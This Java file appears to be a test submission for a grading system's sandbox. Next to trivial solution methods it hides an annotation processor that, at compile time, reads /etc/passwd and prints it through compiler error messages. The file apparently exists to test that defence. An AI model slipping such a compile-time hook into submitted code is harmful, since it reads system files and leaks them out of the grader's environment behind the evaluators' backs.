// Is an annotation processor itself, which would read files while it is compiled and tell of them in errors.
// expects: graded 10
package attacked.target;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.RoundEnvironment;
import javax.annotation.processing.SupportedAnnotationTypes;
import javax.lang.model.element.TypeElement;
import javax.tools.Diagnostic;

public final class TargetSolution implements Target {
    @SupportedAnnotationTypes("*")
    public static final class Processor extends AbstractProcessor {
        @Override
        public boolean process(Set<? extends TypeElement> types, RoundEnvironment round) {
            try {
                String text = Files.readString(Path.of("/etc/passwd"));
                processingEnv.getMessager().printMessage(Diagnostic.Kind.ERROR, text);
            } catch (IOException stopped) {
                processingEnv.getMessager().printMessage(Diagnostic.Kind.ERROR, stopped.toString());
            }
            return false;
        }
    }

    public double[] twice(double[] values) {
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        return "Hello, " + name;
    }
}
